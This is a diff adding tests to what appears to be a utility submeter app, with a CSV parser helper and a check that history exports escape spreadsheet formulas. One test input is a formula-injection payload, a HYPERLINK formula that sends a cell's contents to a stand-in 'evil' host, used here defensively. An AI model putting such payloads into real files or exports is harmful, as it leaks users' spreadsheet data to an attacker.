@@ -210,3 +210,54 @@ def test_the_power_led_blinks_on_a_fault():
     app.store.folder = app.board.data_dir + "/no-such-folder"
     app.save()                                          # the flash refuses: a fault too
     assert app.fault()
+
+
+def csv_rows(text):
+    # an RFC 4180 reader (quoted fields, doubled quotes, CR LF inside quotes)
+    rows, row, cell, i, quoted = [], [], "", 0, False
+    while i < len(text):
+        c = text[i]
+        if quoted:
+            if c == '"' and text[i + 1:i + 2] == '"':
+                cell += '"'
+                i += 1
+            elif c == '"':
+                quoted = False
+            else:
+                cell += c
+        elif c == '"':
+            quoted = True
+        elif c == ",":
+            row.append(cell)
+            cell = ""
+        elif c == "\r" and text[i + 1:i + 2] == "\n":
+            row.append(cell)
+            rows.append(row)
+            row, cell = [], ""
+            i += 1
+        else:
+            cell += c
+        i += 1
+    assert not row and not cell and not quoted, "the CSV ends mid-line"
+    return rows
+
+
+def test_history_csv_quotes_text_and_makes_formulas_inert():
+    from submeter.app import USAGES, csv_text
+    app, clock = make_app()
+    cur = 'E,"x"\r\n=HYPERLINK("http://evil/?"&A1)'
+    app.cfg["currency"] = cur
+
+    class Rec:  # one day of export: a negative cost stays a number
+        def to_dict(self, daily):
+            u = {"wh": 1500, "cost": -0.25}
+            return {"date": "2026-11-27", "wh": -2500, "cost": -0.5, "usage": {k: u for k in USAGES},
+                    "gas_l": 0, "gas_cost": 0.0, "water_l": 0, "water_cost": 0.0}
+    app.history.records = lambda kind, count: [Rec()]
+    rows = csv_rows(b"".join(app.history_csv("days", 1)).decode())
+    assert len(rows) == 2 and len(rows[0]) == len(rows[1]) == 7 + 2 * len(USAGES)
+    assert rows[0][2] == "total_cost_" + cur and rows[0][-1] == "water_cost_" + cur
+    assert rows[1][:3] == ["2026-11-27", "-2.500", "-0.50"] and float(rows[1][4]) == -0.25
+    assert [csv_text(x) for x in ("=HYPERLINK(1)", "+1", "-x", "@SUM(A1)")] == \
+        ["'=HYPERLINK(1)", "'+1", "'-x", "'@SUM(A1)"]
+    assert csv_text('=a,"b"') == '"\'=a,""b"""' and csv_text("EUR") == "EUR"
